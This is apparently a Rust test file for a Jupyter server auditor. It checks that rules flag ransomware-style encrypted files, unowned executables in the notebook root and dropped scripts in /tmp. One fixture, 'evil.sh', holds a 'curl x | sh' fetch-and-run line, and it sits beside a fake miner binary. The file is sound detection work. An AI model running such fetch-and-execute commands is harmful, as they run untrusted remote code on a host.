//! Incident indicators on disk: unowned executables/scripts in /tmp and the notebook root, and
//! encrypted-looking files in the notebook root (issue 8, "Indicators of the incident").

use pyward_audit::jupyter::{audit, AuditOptions, AuditResult};
use pyward_core::{Finding, Severity};
use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, SystemTime};

fn write(root: &Path, rel: &str, data: &[u8]) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, data).unwrap();
}

fn chmod(root: &Path, rel: &str, mode: u32) {
    std::fs::set_permissions(root.join(rel), std::fs::Permissions::from_mode(mode)).unwrap();
}

/// Pseudo-random bytes (xorshift64*), different per seed: what an encryptor's output looks like.
fn random_bytes(seed: u64, len: usize) -> Vec<u8> {
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    (0..len)
        .map(|_| {
            x ^= x >> 12;
            x ^= x << 25;
            x ^= x >> 27;
            (x.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 56) as u8
        })
        .collect()
}

fn run(root: &Path) -> AuditResult {
    audit(&AuditOptions {
        root: root.to_path_buf(),
        proc_dir: None,
        urls: Vec::new(),
        allow_remote_probe: false,
        probe_running: false,
        env: BTreeMap::new(),
        since_days: 7,
    })
    .unwrap()
}

fn with_rule<'a>(r: &'a AuditResult, id: &str) -> Vec<&'a Finding> {
    r.findings.iter().filter(|f| f.rule_id == id).collect()
}

fn ev<'a>(f: &'a Finding, key: &str) -> Option<&'a str> {
    f.evidence
        .iter()
        .find(|e| e.key == key)
        .map(|e| e.value.as_str())
}

const NB: &str = "srv/notebooks";

/// A root with a user and a system config whose root_dir is /srv/notebooks.
fn root_with_notebooks() -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    write(
        t.path(),
        "etc/passwd",
        b"alice:x:1000:1000::/home/alice:/bin/bash\n",
    );
    std::fs::create_dir_all(t.path().join("home/alice")).unwrap();
    write(
        t.path(),
        "etc/jupyter/jupyter_server_config.py",
        b"c = get_config()\nc.ServerApp.root_dir = '/srv/notebooks'\n",
    );
    write(t.path(), &format!("{NB}/README.md"), b"# project\n");
    write(
        t.path(),
        &format!("{NB}/analysis.ipynb"),
        br#"{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}"#,
    );
    let mut text = Vec::new();
    for i in 0..400 {
        text.extend_from_slice(format!("row {i}, value {}, label ok\n", i * 7).as_bytes());
    }
    write(t.path(), &format!("{NB}/data.csv"), &text);
    t
}

fn set_mtime(path: &Path, age: Duration) {
    let f = std::fs::File::options().write(true).open(path).unwrap();
    f.set_modified(SystemTime::now() - age).unwrap();
}

#[test]
fn encrypted_unowned_and_owned_files() {
    let t = root_with_notebooks();
    let root = t.path();
    // 25 recent encrypted-looking files, 3 old ones (outside the 7-day window).
    for i in 0..25u64 {
        write(
            root,
            &format!("{NB}/data/part{i}.csv.enc"),
            &random_bytes(i + 1, 5000),
        );
    }
    for i in 0..3u64 {
        let rel = format!("{NB}/archive/old{i}.bin");
        write(root, &rel, &random_bytes(100 + i, 5000));
        set_mtime(&root.join(&rel), Duration::from_secs(30 * 86_400));
    }
    // A zip (random payload behind a PK header) and a gzip: known formats, not counted.
    let mut zip = b"PK\x03\x04".to_vec();
    zip.extend(random_bytes(500, 5000));
    write(root, &format!("{NB}/bundle.zip"), &zip);
    let mut gz = b"\x1f\x8b\x08\x00".to_vec();
    gz.extend(random_bytes(501, 5000));
    write(root, &format!("{NB}/log.gz"), &gz);
    // A small random file: too short a sample to judge.
    write(root, &format!("{NB}/tiny.key"), &random_bytes(502, 200));

    // Unowned: a shell script and an ELF in the notebook root, a Python dropper in /tmp.
    write(root, &format!("{NB}/evil.sh"), b"#!/bin/sh\ncurl x | sh\n");
    write(root, &format!("{NB}/miner"), b"\x7fELF\x02\x01\x01\x00");
    chmod(root, &format!("{NB}/miner"), 0o755);
    write(root, "tmp/dropper.py", b"import os\n");
    // Owned: listed by dpkg, and by a Python package's RECORD.
    write(root, "tmp/owned_tool", b"\x7fELF\x02\x01\x01\x00");
    chmod(root, "tmp/owned_tool", 0o755);
    write(
        root,
        "var/lib/dpkg/info/x.list",
        b"/.\n/tmp\n/tmp/owned_tool\n",
    );
    write(root, &format!("{NB}/tool.py"), b"print('packaged')\n");
    write(
        root,
        "usr/lib/python3/dist-packages/fake-1.0.dist-info/RECORD",
        b"fake/__init__.py,sha256=abc,10\n../../../../srv/notebooks/tool.py,,\nfake-1.0.dist-info/RECORD,,\n",
    );
    // A symlink to random data outside the root is never followed.
    let outside = tempfile::tempdir().unwrap();
    for i in 0..30u64 {
        write(
            outside.path(),
            &format!("x{i}.bin"),
            &random_bytes(900 + i, 5000),
        );
    }
    std::os::unix::fs::symlink(outside.path(), root.join(NB).join("link")).unwrap();

    let r = run(root);

    let enc = with_rule(&r, "ioc.encrypted-files-in-notebook-root");
    assert_eq!(enc.len(), 1, "{:#?}", r.findings);
    let f = enc[0];
    assert_eq!(f.severity, Severity::High);
    assert_eq!(ev(f, "count"), Some("25"));
    assert!(f.mitre.iter().any(|m| m.id == "T1486"), "{f:#?}");
    assert!(ev(f, "mitigation").unwrap().contains("M1053"));
    let examples = ev(f, "examples").unwrap();
    assert_eq!(examples.split("; ").count(), 10);
    assert!(examples.contains("part"), "{examples}");
    for not in [
        "bundle.zip",
        "log.gz",
        "old",
        "tiny.key",
        "link",
        "data.csv",
    ] {
        assert!(!examples.contains(not), "{not} in {examples}");
    }
    assert!(ev(f, "notebook_root_of")
        .unwrap()
        .contains("system configuration"));
    assert!(f.path.as_deref().unwrap().ends_with("srv/notebooks"));

    let un = with_rule(&r, "ioc.unowned-executable-in-notebook-root");
    assert_eq!(un.len(), 1, "{:#?}", r.findings);
    let u = un[0];
    assert_eq!(u.severity, Severity::Medium);
    let ex = ev(u, "examples").unwrap();
    assert!(ex.contains("evil.sh (script)"), "{ex}");
    assert!(ex.contains("miner (ELF binary)"), "{ex}");
    assert!(!ex.contains("tool.py"), "owned by a RECORD: {ex}");
    assert!(!ex.contains("README") && !ex.contains(".ipynb"), "{ex}");
    assert!(u.message.starts_with("2 "), "{}", u.message);

    let dropped = with_rule(&r, "ioc.dropped-executable");
    let paths: Vec<&str> = dropped.iter().filter_map(|f| f.path.as_deref()).collect();
    assert_eq!(dropped.len(), 1, "{dropped:#?}");
    assert!(paths[0].ends_with("tmp/dropper.py"), "{paths:?}");
    assert_eq!(dropped[0].severity, Severity::Medium);
    assert_eq!(r.exit_code(), 1);
}

/// Fewer than 20 encrypted-looking files: medium; a user's `~` root_dir is resolved in the home.
#[test]
fn few_encrypted_files_medium_and_home_root() {
    let t = root_with_notebooks();
    let root = t.path();
    write(
        root,
        "home/alice/.jupyter/jupyter_server_config.json",
        br#"{"ServerApp": {"root_dir": "~/work"}}"#,
    );
    for i in 0..5u64 {
        write(
            root,
            &format!("home/alice/work/f{i}.dat"),
            &random_bytes(40 + i, 4096),
        );
    }
    let r = run(root);
    let enc = with_rule(&r, "ioc.encrypted-files-in-notebook-root");
    let home: Vec<_> = enc
        .iter()
        .filter(|f| f.path.as_deref().unwrap_or("").ends_with("home/alice/work"))
        .collect();
    assert_eq!(home.len(), 1, "{enc:#?}");
    assert_eq!(home[0].severity, Severity::Medium);
    assert_eq!(ev(home[0], "count"), Some("5"));
    // The /srv/notebooks root holds only text: nothing there.
    assert_eq!(enc.len(), 1);
    assert!(with_rule(&r, "ioc.unowned-executable-in-notebook-root").is_empty());
}

/// A clean notebook root gives no indicator; bad inputs (unreadable dpkg list, binary RECORD,
/// a symlink loop, a FIFO) do not hang or panic.
#[test]
fn clean_root_and_bad_inputs() {
    let t = root_with_notebooks();
    let root = t.path();
    write(root, "var/lib/dpkg/info/bad.list", &random_bytes(7, 3000));
    write(
        root,
        "usr/lib/python3/dist-packages/bad-1.dist-info/RECORD",
        &random_bytes(8, 3000),
    );
    std::fs::create_dir_all(root.join("usr/lib/python3/dist-packages/dir-1.dist-info/RECORD"))
        .unwrap();
    std::os::unix::fs::symlink(".", root.join(NB).join("loop")).unwrap();
    let fifo = root.join(NB).join("pipe.py");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    let r = run(root);
    assert!(with_rule(&r, "ioc.encrypted-files-in-notebook-root").is_empty());
    let un = with_rule(&r, "ioc.unowned-executable-in-notebook-root");
    assert!(un.is_empty(), "{un:#?} (mkfifo: {made:?})");
    assert!(with_rule(&r, "ioc.dropped-executable").is_empty());
}
